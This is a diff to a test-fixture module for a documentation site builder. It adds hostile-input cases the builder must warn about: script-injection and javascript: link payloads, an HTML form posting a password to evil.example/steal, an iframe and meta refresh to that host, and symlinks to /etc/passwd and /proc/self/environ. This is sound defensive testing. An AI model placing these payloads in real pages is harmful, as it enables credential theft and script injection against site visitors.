@@ -6,6 +6,7 @@ Used by ``test_hostile_input.py`` (each case built and checked), ``test_commands
 
 from __future__ import annotations
 
+import os
 import uuid
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -51,6 +52,25 @@ TITLE_MARKDOWN = "**bold** _em_ [link](javascript:alert(1)) ![img](/media/x.png)
 TITLE_TAG = "markup in titles"  # the two titles above share it: each is on the other's page (sidebar, related)
 LONG_TITLE = "Long " * 1000
 HUNDREDS = [f"t{i:03d}" for i in range(300)]
+
+# What writers need of HTML: kept as written, no warning.
+YOUTUBE = "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"
+KEPT_HTML = f"""<details>
+<summary>More</summary>
+
+Inner **Markdown**.
+
+</details>
+
+<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="1">1</td></tr></tbody></table>
+
+H<sub>2</sub>O, E = mc<sup>2</sup>, <kbd>Ctrl</kbd>, <abbr title="Search engine optimisation">SEO</abbr>.
+
+<figure><img src="https://cdn.example.com/x.png" alt="A chart" width="320" height="200">\
+<figcaption>A chart</figcaption></figure>
+
+<iframe width="560" height="315" src="{YOUTUBE}" title="A video" frameborder="0" allow="autoplay" allowfullscreen></iframe>
+"""
 
 CASES: list[Case] = [
     # ---- the front matter as a whole ---------------------------------------------
@@ -213,12 +233,67 @@ CASES: list[Case] = [
     Case("include-outside", _fm("title: Include outside", "date: 2025-01-01",
                                 body="```{literalinclude} ../../secret.txt\n```\n\n```{include} ../../secret.txt\n```"),
          warnings=((6, r"(?i)disabled"), (9, r"(?i)disabled"))),
+    # ---- the body's HTML: through the allow-list, each removal warned at its line ----------------
+    Case("html-script", _fm("title: Script", "date: 2025-01-01",
+                            body='Before.\n\n<script>alert(1)</script>\n\n<b onmouseover="alert(2)">After</b>.'),
+         warnings=((8, r"<script>.*\[handbook\.html\]"), (10, r"onmouseover= on <b>"))),
+    Case("html-raw-directive", _fm("title: Raw directive", "date: 2025-01-01",
+                                   body="```{raw} html\n<script>alert(3)</script>\n```"),
+         warnings=((6, r"the \{raw\} directive"),)),
+    Case("html-eval-rst", _fm("title: Eval rst", "date: 2025-01-01",
+                              body="```{eval-rst}\n.. raw:: html\n\n   <script>alert(4)</script>\n\n"
+                                   "`x <javascript:alert(5)>`_\n\n.. meta::\n   :http-equiv=refresh: 0; url=https://evil.example/\n```"),
+         warnings=((6, r"the \{eval-rst\} directive"),)),
+    Case("html-links", _fm("title: Links", "date: 2025-01-01",
+                           body='<a href="javascript:alert(6)">a</a> <a href="JaVaScRiPt&colon;alert(7)">b</a> '
+                                '<a href="data:text/html,x">c</a> [d](javascript:alert(8)) <vbscript:msgbox>\n\n'
+                                '[e][ref]\n\n[ref]: javascript:alert(9)'),
+         warnings=((6, r"javascript: link on <a>, data: link on <a>"),)),
+    Case("html-form-style-frame", _fm("title: Form, style, frame", "date: 2025-01-01",
+                                      body='<form action="https://evil.example/steal"><input name="password">'
+                                           '</form>\n\n<style>body { display: none }</style>\n\n'
+                                           '<iframe src="https://evil.example/"></iframe>'),
+         warnings=((6, r"<form> posting to evil\.example"), (8, r"<style>"), (10, r"<iframe> from evil\.example"))),
+    Case("html-kept", _fm("title: What writers need", "date: 2025-01-01", body=KEPT_HTML)),
+    Case("html-deep", _fm("title: Deep", "date: 2025-01-01", body="<div>" * 150 + "deep" + "</div>" * 150),
+         warnings=((6, r"nested more than 100 elements deep"),)),
+    # ---- files outside the project, named by a post: never read --------------------------------
+    Case("download-outside", _fm("title: Download outside", "date: 2025-01-01",
+                                 body="[the secret](../../secret.txt) and {download}`secret <../../secret.txt>`"),
+         warnings=((6, r"the download '\.\./\.\./secret\.txt' is outside the project.*\[handbook\.file\]"),
+                   (6, r"the download"))),
+    Case("mermaid-file-outside", _fm("title: Diagram outside", "date: 2025-01-01",
+                                     body="```{mermaid} ../../secret.txt\n```"),
+         warnings=((6, r"the diagram file '\.\./\.\./secret\.txt' is outside the project"),)),
+    # ---- names that differ only in case: both built, one warning naming both ---------------------
+    Case("Same-Name", post("Same name, capitals")),
+    Case("same-name", post("Same name, small letters"),
+         warnings=((None, r"'posts/same-name\.md' and 'posts/Same-Name\.md' differ only in case"),)),
+    # ---- size: the first handbook_max_post_chars characters, and a note --------------------------
+    Case("too-long", post("Too long", body="Many words here. " * 13_000),
+         warnings=((1, r"[\d,]+ characters long, more than handbook_max_post_chars.*\[handbook\.limit\]"),)),
     # ---- drafts --------------------------------------------------------------------------------
     Case("draft", post("A draft", draft=True), listed=False),
     Case("draft-invalid", post("Perhaps a draft", draft="perhaps"),
          warnings=((5, r"'draft' must be true or false"),)),
 ]
 CASE_BY_NAME = {case.name: case for case in CASES}
+
+# Post files that are links out of the project or special files: never read, never built, one
+# warning naming the file (no line). Written by write_files (not text: not in CASES).
+FILE_CASES = {"link-passwd": "/etc/passwd", "link-environ": "/proc/self/environ", "link-dev-zero": "/dev/zero",
+              "link-secret": "../../secret.txt", "fifo": None}
+
+
+def write_files(srcdir: Path) -> None:
+    """The FILE_CASES: links (target) and a FIFO (None) in posts/."""
+    for name, target in FILE_CASES.items():
+        path = srcdir / "posts" / f"{name}.md"
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if target is None:
+            os.mkfifo(path)
+        else:
+            path.symlink_to(target)
 MARKERS = {"yaml-python-apply": "apply", "yaml-python-new": "new", "yaml-python-document": "doc",
            "myst-substitution": "jinja", "js-front-matter-code": "js"}
 
